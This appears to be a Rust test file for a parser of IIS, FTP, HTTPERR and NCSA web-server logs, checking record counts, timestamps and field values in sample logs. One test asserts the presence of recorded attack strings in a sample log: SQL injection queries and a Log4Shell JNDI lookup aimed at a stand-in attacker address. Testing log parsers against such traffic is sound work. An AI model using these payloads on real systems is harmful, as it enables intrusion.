//! The samples of this project read as their forms say.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use std::collections::BTreeMap;
use std::path::Path;

use scopelog_formats::{Item, Options, Value, detect, open};

/// One record: its time and the fields that are not null.
struct Event {
    time: Option<i64>,
    fields: BTreeMap<String, String>,
}

impl Event {
    fn get(&self, name: &str) -> &str {
        self.fields.get(name).map_or("", String::as_str)
    }

    fn time(&self) -> String {
        let time = chrono::DateTime::from_timestamp_micros(self.time.unwrap()).unwrap();
        time.format("%Y-%m-%d %H:%M:%S%.f").to_string()
    }
}

/// The records of a sample, which has no rejects and whose kind is told from its content.
fn events(name: &str) -> Vec<Event> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/logs/iis").join(name);
    let bytes = std::fs::read(path).unwrap();
    let mut reader = open(&bytes[..], None, &Options::default()).unwrap();
    let mut found = vec![];
    loop {
        let (time, fields) = match reader.next_item().unwrap() {
            None => return found,
            Some(Item::Reject(reject)) => panic!("{name}: {reject:?}"),
            Some(Item::Record(record)) => {
                let texts = record.fields().filter_map(|(id, value)| match value {
                    Value::Text(text) => Some((id, text.to_owned())),
                    _ => None,
                });
                (record.time(), texts.collect::<Vec<_>>())
            }
        };
        let fields = fields.into_iter().map(|(id, text)| (reader.names().get(id).to_owned(), text)).collect();
        found.push(Event { time, fields });
    }
}

/// How many events have a field with a value.
fn count(events: &[Event], name: &str, value: &str) -> usize {
    events.iter().filter(|e| e.get(name) == value).count()
}

#[test]
fn a_day_of_a_web_site() {
    let web = events("web-u_ex261102.log");
    assert_eq!(count(&web, "log-form", "w3c"), web.len());
    assert!(web.iter().all(|e| e.time().starts_with("2026-11-02 ")));
    assert!(web.is_sorted_by_key(|e| e.time));
    let attack: Vec<&Event> = web.iter().filter(|e| e.get("c-ip") == "203.0.113.66").collect();
    let refused = attack.iter().filter(|e| e.get("cs-uri-stem") == "/login" && e.get("sc-status") == "401").count();
    assert_eq!((web.len(), attack.len(), refused), (383, 92, 72));
    for query in ["id=1;WAITFOR+DELAY+'0:0:5'--", "q=${jndi:ldap://203.0.113.66:1389/a}", "id=-1\"+or+\"1\"=\"1"] {
        assert_eq!(count(&web, "cs-uri-query", query), 2, "{query}");
    }
    assert!(
        count(&web, "cs(User-Agent)", "Mozilla/5.0 (compatible; examplebot/2.1; +http://www.example.org/bot.html)") > 0
    );
    for user in ["ana.lima", "joao.reis", "mei.tan"] {
        assert!(count(&web, "cs-username", &format!("{user}@northwind.example")) > 0);
        assert!(count(&web, "cs-username", &format!("NORTHWIND\\{user}")) > 0);
    }
    assert_eq!(count(&web, "cs-username", "NORTHWIND\\svc-backup"), 12);
}

#[test]
fn file_transfers_and_refused_connections() {
    let ftp = events("ftp-u_ex261102.log");
    assert_eq!((ftp.len(), count(&ftp, "log-form", "ftp"), count(&ftp, "sc-status", "530")), (85, 85, 5));
    assert_eq!(count(&ftp, "x-fullpath", "/press/Preisliste_für_München.xlsx"), 1);
    let errors = events("httperr-1.log");
    assert_eq!((errors.len(), count(&errors, "log-form", "httperr")), (42, 42));
    assert_eq!(count(&errors, "s-reason", "Timer_ConnectionIdle"), 28);
    assert_eq!(count(&errors, "s-queuename", "MSExchange Services Pool"), 1);
    assert_eq!(count(&errors, "s-siteid", "1"), 5);
}

#[test]
fn a_log_without_dates() {
    let times: Vec<String> = events("no-date-over-midnight.log").iter().map(Event::time).collect();
    assert_eq!(
        times,
        [
            "2026-11-01 23:59:51",
            "2026-11-01 23:59:58",
            "2026-11-02 00:00:04",
            "2026-11-01 23:59:59",
            "2026-11-02 00:00:09"
        ]
    );
}

#[test]
fn advanced_logging() {
    let log = events("advanced.log");
    assert_eq!(
        (log.len(), count(&log, "log-form", "advanced"), count(&log, "s-sitename", "Northwind Shop")),
        (4, 4, 4)
    );
    assert_eq!(log[0].time(), "2026-11-02 08:00:01.120");
    assert_eq!(log[0].get("cs-uri-query"), "q=\"floor lamp\"");
    assert_eq!(log[0].get("time-local"), "09:00:01.120");
    assert_eq!(log[1].get("cs(User-Agent)"), "Agent \"Beta\" 1.0");
    assert_eq!(log[1].get("cs-username"), "NORTHWIND\\ana.lima");
    assert_eq!(log[2].get("cs-uri-query"), "dir=C:\\data\\");
    assert_eq!(log[3].get("X-Forwarded-For"), "203.0.113.66");
}

#[test]
fn native_and_ncsa() {
    let native = events("native-in261102.log");
    assert_eq!((native.len(), count(&native, "log-form", "iis")), (4, 4));
    assert_eq!((native[0].time().as_str(), native[0].get("cs-uri-stem")), ("2026-11-02 07:55:20", "/img/a,b.gif"));
    let ncsa = events("ncsa-nc261102.log");
    assert_eq!((ncsa.len(), count(&ncsa, "log-form", "ncsa")), (4, 4));
    assert_eq!((ncsa[0].time().as_str(), ncsa[0].get("cs-uri-query")), ("2026-11-02 08:55:20", "from=2026-10"));
    assert_eq!(ncsa[2].get("cs-uri-query"), "q=\"x\"");
}

#[test]
fn fields_that_change_in_utf16() {
    let log = events("utf16-changed-fields.log");
    let of = |name: &str| log.iter().map(|e| e.get(name).to_owned()).collect::<Vec<_>>();
    assert_eq!(of("c-ip"), ["192.0.2.47", "192.0.2.47", "198.51.100.23"]);
    assert_eq!(of("cs-uri-stem"), ["/ação/relatório"; 3]);
    assert_eq!(of("sc-status"), ["200", "200", "403"]);
    assert_eq!(log[2].get("extra_1"), "203.0.113.7");
}

#[test]
fn a_kind_is_forced_only_where_the_content_does_not_contradict() {
    let headless = b"2026-11-02 10:00:00 GET /a 200\n2026-11-02 10:00:01 GET /b 200\n";
    assert_eq!(detect(headless).kind, None);
    let mut reader = open(&headless[..], Some(scopelog_formats::Kind::Iis), &Options::default()).unwrap();
    let mut reasons = vec![];
    while let Some(Item::Reject(reject)) = reader.next_item().unwrap() {
        reasons.push(reject.reason.as_str());
    }
    assert_eq!(reasons, ["no_field_list"; 2]);
    let log = b"#Fields: date time cs-method\n2026-11-02 10:00:00 GET\n";
    assert!(open(&log[..], Some(scopelog_formats::Kind::Syslog), &Options::default()).is_err());
}
